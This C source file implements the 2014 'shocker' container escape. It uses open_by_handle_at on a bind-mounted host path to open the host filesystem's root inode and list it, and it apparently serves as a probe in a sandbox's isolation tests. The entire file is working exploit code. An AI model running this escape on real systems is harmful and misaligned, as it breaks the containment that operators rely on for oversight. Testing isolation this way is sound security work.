// Attack: "shocker" (Docker, 2014). A file handle names an inode without a path; given any fd on a host
// filesystem (a bind mount such as /.aegis or /workspace), open_by_handle_at opens that filesystem's root
// inode (2 on ext4) and the guest walks the host's whole disk from there. Lists that directory if it can.
// Usage: shocker PATH-ON-A-HOST-FILESYSTEM
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 2) return 2;
  int mount_fd = open(argv[1], O_RDONLY);
  if (mount_fd < 0) {
    printf("open %s: %s\n", argv[1], strerrorname_np(errno));
    return 1;
  }
  char buf[sizeof(struct file_handle) + 8] = {0};
  struct file_handle *h = (struct file_handle *)buf;
  h->handle_bytes = 8;
  h->handle_type = 1; // FILEID_INO32_GEN: inode number, generation
  ((unsigned int *)h->f_handle)[0] = 2;
  int fd = syscall(SYS_open_by_handle_at, mount_fd, h, O_RDONLY | O_DIRECTORY);
  if (fd < 0) {
    printf("open_by_handle_at: %s\n", strerrorname_np(errno));
    return 1;
  }
  DIR *d = fdopendir(fd);
  struct dirent *e;
  while (d && (e = readdir(d))) printf("%s\n", e->d_name);
  return 0;
}
